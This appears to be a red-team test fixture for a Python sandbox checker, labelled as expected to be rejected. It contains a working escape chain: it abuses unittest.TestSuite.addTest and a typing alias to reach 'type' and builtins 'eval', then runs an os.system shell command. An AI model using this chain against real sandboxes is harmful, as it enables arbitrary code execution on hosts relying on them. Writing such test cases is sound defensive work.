# expect: reject unbound
# line: 20
# verified: reaches its goal under plain python3 (3.11) in a temp dir (type, eval, id run)
# why: fourteenth red team (14b), family T: ours: TestSuite.addTest read through the class and called with the suite and a class

import unittest
import typing
import copy

class Res:
    shouldStop = False

    def previous(self):
        return self._previousTestClass

class Plain:
    def __init__(self, result):
        self.r = result

add = unittest.TestSuite.addTest
s = unittest.TestSuite()
add(s, Plain)
r = Res()
s.run(r)
T = r.previous()
Alias = T(typing.List[int])
ev = copy.deepcopy(Alias(int, ("eval",), name="__builtins__"))
ev("__import__(\"os\").system(\"id\")")
